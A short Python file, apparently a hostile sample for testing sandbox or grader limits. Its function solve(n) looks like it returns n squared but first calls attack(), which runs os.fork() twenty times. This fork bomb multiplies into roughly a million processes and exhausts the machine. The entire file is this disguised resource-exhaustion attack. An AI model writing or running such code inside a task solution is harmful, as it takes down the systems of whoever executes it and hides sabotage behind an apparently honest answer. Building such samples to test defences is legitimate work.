"""Starts processes that start processes."""

import os


def attack():
    for _ in range(20):
        os.fork()
    return True


def solve(n):
    return n * n if attack() else None
